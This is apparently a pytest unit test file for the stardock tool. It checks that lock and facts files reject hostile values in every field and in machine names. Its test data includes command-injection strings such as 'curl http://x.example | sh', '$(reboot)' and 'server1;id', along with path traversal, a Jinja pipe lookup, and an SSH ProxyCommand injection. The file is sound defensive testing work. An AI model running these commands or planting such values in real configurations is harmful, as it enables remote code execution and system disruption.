"""Every field of the lock and of the facts, with values that cluster.yaml would not take there."""

from __future__ import annotations

import copy
import json
import typing
from collections.abc import Iterator
from dataclasses import asdict, fields, is_dataclass
from pathlib import Path
from typing import Any

import pytest

from stardock.errors import InputErrors, Problem
from stardock.model.facts import Facts
from stardock.model.lock import Lock
from stardock.spec.keypath import Keys, path_text
from stardock.workspace.facts import load_facts, save_facts
from stardock.workspace.lock import load_lock, save_lock, to_json
from stardock.workspace.records.facts_forms import FACTS as FACTS_FORMS
from stardock.workspace.records.forms import Forms
from stardock.workspace.records.lock_forms import LOCK
from tests.unit.workspace.records.full import FACTS, full_lock

pytestmark = [pytest.mark.unit, pytest.mark.proves("hostile 8")]

TEXTS = (
    *("local-lvm; curl http://x.example | sh #", "../../../home/x", '${file("/etc/hostname")}', "$(reboot)", "a\nb", "x y'\"z", ""),
    *("#jinja2: variable_start_string:'[%'", "{{ lookup('pipe', 'id') }}", "%{ if true }", "\x1b[2J", "-oProxyCommand=id"),
)
NUMBERS = (-1, 10**16, 10**30, 1.5, "7")
KINDS: tuple[Any, ...] = ({"a": 1}, [[]], True)
#: Text for people or for a shell of the user's own, as in cluster.yaml: only what no text may hold is refused there.
FREE = {"content", "description", "commands", "boot_commands", "file", "kubelet-arg", "snapshotter"}
#: A record from before there were releases; a label without a value; what a `data-dir` could be, too.
FINE = (("release", ""), ("disk", ""), ("cluster-cidr", "../../../home/x"))
LOCK_TEXT = json.loads(to_json(full_lock()))
FACTS_TEXT = json.loads(json.dumps(asdict(FACTS)))


def leaves(value: Any, keys: Keys = ()) -> Iterator[tuple[Keys, Any]]:
    """Every text and number of a document, and every name in it, with its key path."""
    for key, inner in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from leaves(inner, (*keys, key))
    if not isinstance(value, dict | list | bool) and value is not None:
        yield keys, value


def each_once(document: dict[str, Any]) -> dict[str, tuple[Keys, Any]]:
    """One leaf of each kind: that of one machine stands for all."""
    found: dict[str, tuple[Keys, Any]] = {}
    for keys, value in leaves(document):
        names = [str(key) for key in keys if isinstance(key, str)]
        found.setdefault(".".join(names if names[0] not in ("machines", "images") else [names[0], *names[2:]]), (keys, value))
    return found


def put(document: dict[str, Any], keys: Keys, value: Any) -> dict[str, Any]:
    edited: dict[str, Any] = copy.deepcopy(document)
    inner: Any = edited
    for key in keys[:-1]:
        inner = inner[key]
    inner[keys[-1]] = value
    return edited


def refusals(path: Path, text: str) -> list[str]:
    """The key paths that are refused; each problem has line and cure."""
    path.write_text(text)
    problems = _problems(path)
    assert all(problem.line and problem.cure for problem in problems), problems
    assert all(len(problem.message) < 300 and problem.message.isprintable() for problem in problems)
    return [problem.path for problem in problems]


def _problems(path: Path) -> tuple[Problem, ...]:
    try:
        load_lock(path) if path.suffix == ".lock" else load_facts(path, "quickstart")
    except InputErrors as errors:
        return errors.problems
    return ()


CASES = {"cluster.lock": each_once(LOCK_TEXT), "cluster.facts.json": each_once(FACTS_TEXT)}


def aimed_at(name: str, value: Any, wrong: Any) -> bool:
    """Whether a value is wrong for a field."""
    last = name.rpartition(".")[2]
    if name == "version" or (last, wrong) in FINE or (last in FREE and wrong in TEXTS):
        return False
    return isinstance(value, int) or wrong not in NUMBERS or isinstance(wrong, float)


@pytest.mark.parametrize("wrong", [*TEXTS, *NUMBERS, *KINDS], ids=lambda wrong: repr(wrong)[:20])
@pytest.mark.parametrize("file", CASES)
def test_a_hostile_value_is_refused_in_every_field_of_lock_and_facts_with_line_and_key_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, file: str, wrong: Any
) -> None:
    monkeypatch.setattr("stardock.workspace.records.document.MOST", 10_000)
    aims = [keys for name, (keys, value) in CASES[file].items() if aimed_at(name, value, wrong)]
    missed = aims
    while missed:  # values of a wrong type are told before values of a wrong form
        aims, edited = missed, LOCK_TEXT if file == "cluster.lock" else FACTS_TEXT
        for keys in aims:
            edited = put(edited, keys, wrong)
        found = refusals(tmp_path / file, json.dumps(edited, indent=2, sort_keys=True))
        missed = [keys for keys in aims if not any(at(path, path_text(keys)) for path in found)]
        assert missed != aims, [path_text(keys) for keys in missed]


def at(path: str, keys: str) -> bool:
    """Whether a problem is of a value: at it, below it, or of the mapping whose values are looked at together."""
    return path.startswith(keys) or (path.rpartition(".")[2] in ("labels", "options", "settings") and keys.startswith(path))


@pytest.mark.parametrize("name", ["../../../home/x", "a b", "$(reboot)", "server1;id", "all", "9x", ""])
def test_a_hostile_name_of_a_machine_or_pve_node_is_refused(tmp_path: Path, name: str) -> None:
    for file, document, key in (
        ("x.lock", LOCK_TEXT, "machines"),
        ("x.lock", LOCK_TEXT, "memory"),
        ("x.facts.json", FACTS_TEXT, "machines"),
    ):
        if key == "memory" and name in ("all", "9x"):
            continue  # such a PVE node may be
        edited = copy.deepcopy(document)
        edited[key][name] = next(iter(edited[key].values()))
        assert refusals(tmp_path / file, json.dumps(edited, indent=2))


def test_what_a_full_lock_and_full_facts_hold_comes_back_equal(tmp_path: Path) -> None:
    lock = full_lock()
    save_lock(tmp_path / "x.lock", lock)
    assert load_lock(tmp_path / "x.lock") == lock
    save_facts(tmp_path / "x.json", FACTS)
    assert load_facts(tmp_path / "x.json", "quickstart") == FACTS


def texts_and_numbers(kind: type) -> Iterator[str]:
    """The fields of a dataclass that hold texts or numbers which no Literal bounds."""
    hints = typing.get_type_hints(kind)
    yield from (field.name for field in fields(kind) if {str, int} & set(_plain(hints[field.name])))


def _plain(hint: Any) -> Iterator[Any]:
    if typing.get_origin(hint) is typing.Literal or is_dataclass(hint):
        return
    arguments = typing.get_args(hint)
    yield from (one for argument in arguments for one in _plain(argument)) if arguments else (hint,)


def records(kind: Any) -> Iterator[Any]:
    """A dataclass and all below it."""
    if is_dataclass(kind):
        yield kind
        yield from (one for hint in typing.get_type_hints(kind).values() for one in records(hint))
    yield from (one for argument in typing.get_args(kind) for one in records(argument))


@pytest.mark.parametrize(("root", "forms"), [(Lock, LOCK), (Facts, FACTS_FORMS)], ids=["lock", "facts"])
def test_every_field_of_lock_and_facts_has_a_form_and_stands_in_the_walk(root: Any, forms: Forms) -> None:
    kinds = set(records(root))
    assert kinds == set(forms)
    lacking = [f"{kind.__name__}.{name}" for kind in kinds for name in texts_and_numbers(kind) if name not in forms[kind]]
    assert not lacking, "name the type that cluster.yaml has for it in stardock/workspace/records"
    unknown = [f"{kind.__name__}.{name}" for kind in kinds for name in forms[kind] if name not in {field.name for field in fields(kind)}]
    assert not unknown
    walked = {key for cases in CASES.values() for name in cases for key in name.split(".")}
    unwalked = sorted({name for kind in kinds for name in texts_and_numbers(kind)} - walked)
    assert not unwalked, "give each a value in full.py beside this file; name free text in FREE"
